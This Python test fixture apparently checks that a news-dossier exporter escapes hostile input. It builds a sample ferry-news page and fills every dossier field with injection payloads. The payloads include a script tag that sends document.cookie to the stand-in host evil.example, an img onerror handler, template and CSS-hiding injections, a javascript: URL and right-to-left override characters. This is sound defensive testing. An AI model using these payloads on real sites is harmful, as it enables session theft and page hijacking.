"""Pages that try to act on their reader, and the dossier made of them."""

import msgspec
from ferry import comparison, document, gazette, late

from manywitness.export import wire
from manywitness.export.dossier import dossier
from manywitness.model.annotations import BlockKind

SCRIPT = "<script>document.title='owned';fetch('https://evil.example/?'+document.cookie)</script>"
IMAGE = '"><img src="https://evil.example/pixel.png" onerror="document.title=\'owned\'">'
CONTENT = f"""{SCRIPT}

PORT ALDER – The ferry company said on Tuesday that it would halt all crossings to Low Island.
“We cannot sail with a cracked hull,” director Ines Varga told reporters. “The boats stay in port until the
inspectors are done.”
Some 1,200 islanders depend on the boat for food and medicine, the council said.
</script></style></p></div></main><style>*{{display:none}}</style>{IMAGE}<!-- {{{{ 7*7 }}}} {{% raw %}}
Pay \u202e001 euros\u202c now. \x00\x1b[31m \x07 ]]> &lt;b&gt; javascript:alert(1)
{"x" * 3000}
שלום עולם, said the man.
The Alder was launched on 2 March 2009 and has carried 40,000 cars a year.
Sign up for our harbour newsletter and never miss a tide.
"""


def hostile_page():
    return document(
        f"<b>{IMAGE}.txt",
        CONTENT,
        articles=[(SCRIPT, "PORT ALDER", "a year.", f"2019-05-14T{IMAGE}")],
        dropped=[
            ("Sign up for our harbour newsletter and never miss a tide.", BlockKind.PROMO, f"why {IMAGE}", 0)
        ],
        quotations=[
            {
                "pieces": (
                    "We cannot sail with a cracked hull,",
                    "The boats stay in port until the\ninspectors are done.",
                ),
                "cue": ("told",),
                "speaker": ("director Ines Varga",),
            }
        ],
        names=["Ines Varga"],
        outlet=f"Outlet {SCRIPT}\u202e",
        url="javascript:document.title='owned'",
        title=IMAGE,
        published=SCRIPT,
    )


def hostile_dossier():
    """The dossier of the ferry with a hostile first page, and hostile words where a stage puts words."""
    whole = dossier(comparison((hostile_page(), gazette(), late())))
    first = whole.stories[0]
    utterance = msgspec.structs.replace(first.utterances[0], speaker=SCRIPT, id=IMAGE)
    conflict = msgspec.structs.replace(first.conflicts[0], why=IMAGE)
    side = msgspec.structs.replace(first.conflicts[0].sides[0], value=SCRIPT)
    variation = msgspec.structs.replace(first.variations[0], why=SCRIPT, sides=(side, side))
    claims = tuple(msgspec.structs.replace(one, words=IMAGE, why=SCRIPT) for one in first.claims)
    brief = tuple(msgspec.structs.replace(one, words=SCRIPT) for one in first.brief)
    people = tuple(msgspec.structs.replace(one, name=IMAGE, aliases=(SCRIPT, IMAGE)) for one in first.people)
    moment = msgspec.structs.replace(first.timeline[0], date=IMAGE, words=SCRIPT)
    story = msgspec.structs.replace(
        first,
        title=f"{SCRIPT} {{{{ 7*7 }}}}",
        where=IMAGE,
        when=IMAGE,
        utterances=(utterance, *first.utterances[1:]),
        conflicts=(conflict,),
        variations=(variation,),
        claims=claims,
        brief=brief,
        people=people,
        timeline=(moment, *first.timeline[1:]),
    )
    failed = msgspec.structs.replace(whole.failed[1], subject=IMAGE, message=SCRIPT, stage=IMAGE, kind=SCRIPT)
    cited = whole.dropped[0].citation
    damage = wire.DamageEntry(cited.text, cited, IMAGE, SCRIPT, 0.5, SCRIPT)
    return msgspec.structs.replace(
        whole, stories=(story, *whole.stories[1:]), failed=(failed, *whole.failed), damage=(damage,)
    )
